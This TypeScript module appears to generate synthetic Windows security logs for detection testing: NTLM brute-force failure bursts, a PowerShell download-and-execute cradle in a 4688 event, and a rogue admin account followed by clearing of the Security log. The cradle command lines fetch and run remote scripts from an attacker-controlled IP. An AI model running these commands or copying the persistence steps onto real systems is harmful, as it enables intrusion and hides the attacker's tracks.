/** The Windows attacks (NXLog JSON over the HTTP intake): 4625 bursts, PowerShell cradles, new admin then 1102. */
import { winEvent } from './lines.js';
import type { Agency, Host, AttackLines as Out, Rng } from './model.js';

const SID = 'S-1-5-21-3623811015-3361044348-30300820';

function winHost(a: Agency, h: Host): string {
  return `${h.name}.${a.slug}.gov.vn`;
}

/** NTLM network logon failures from one address. */
export function winBurst(r: Rng, a: Agency, h: Host, ip: string, t: number, out: Out): void {
  const users = ['administrator', 'admin', 'quantri', 'backup', 'scanner', 'user1', 'test'];
  let rec = r.int(100_000, 900_000);
  const n = r.int(30, 80);
  for (let k = 0; k < n; k++) {
    out.push({
      t,
      transport: 'http',
      line: winEvent(
        t,
        winHost(a, h),
        4625,
        rec++,
        {
          SubjectUserSid: 'S-1-0-0',
          SubjectUserName: '-',
          TargetUserSid: 'S-1-0-0',
          TargetUserName: users[k % users.length]!,
          TargetDomainName: a.slug.toUpperCase(),
          Status: '0xc000006d',
          SubStatus: '0xc000006a',
          FailureReason: '%%2313',
          LogonType: '3',
          LogonProcessName: 'NtLmSsp ',
          AuthenticationPackageName: 'NTLM',
          WorkstationName: 'KALI',
          IpAddress: ip,
          IpPort: String(r.int(40000, 60000)),
        },
        true,
      ),
    });
    t += r.int(1000, 5000);
  }
}

/** A PowerShell download cradle started on the server (4688). */
export function winCradle(r: Rng, a: Agency, h: Host, ip: string, t: number, out: Out): void {
  const cmd = r.chance(0.5)
    ? `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ip}/a.ps1')"`
    : `powershell -w hidden -c "iwr http://${ip}/s.ps1 -UseBasicParsing | iex"`;
  out.push({
    t,
    transport: 'http',
    line: winEvent(t, winHost(a, h), 4688, r.int(100_000, 900_000), {
      SubjectUserSid: `${SID}-1100`,
      SubjectUserName: 'nguyenvana',
      SubjectDomainName: a.slug.toUpperCase(),
      SubjectLogonId: '0x3e7a1',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      TokenElevationType: '%%1938',
      ProcessId: '0x10f0',
      CommandLine: cmd,
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    }),
  });
}

/** An account created, added to Administrators, then the Security log cleared (one logon session). */
export function winNewAdmin(r: Rng, a: Agency, h: Host, t: number, out: Out, logonId: string): void {
  const host = winHost(a, h);
  const sid = `${SID}-${r.int(1200, 1900)}`;
  const subj = {
    SubjectUserSid: `${SID}-500`,
    SubjectUserName: 'Administrator',
    SubjectDomainName: h.name,
    SubjectLogonId: logonId,
  };
  let rec = r.int(100_000, 900_000);
  out.push({
    t,
    transport: 'http',
    line: winEvent(t, host, 4720, rec++, {
      TargetUserName: 'support$x',
      TargetDomainName: h.name,
      TargetSid: sid,
      ...subj,
      SamAccountName: 'support$x',
      UserAccountControl: '%%2080 %%2082 %%2084',
    }),
  });
  t += r.int(30_000, 600_000);
  out.push({
    t,
    transport: 'http',
    line: winEvent(t, host, 4732, rec++, {
      MemberName: '-',
      MemberSid: sid,
      TargetUserName: 'Administrators',
      TargetDomainName: 'Builtin',
      TargetSid: 'S-1-5-32-544',
      ...subj,
    }),
  });
  t += r.int(60_000, 900_000);
  out.push({ t, transport: 'http', line: winEvent(t, host, 1102, rec++, subj) });
}
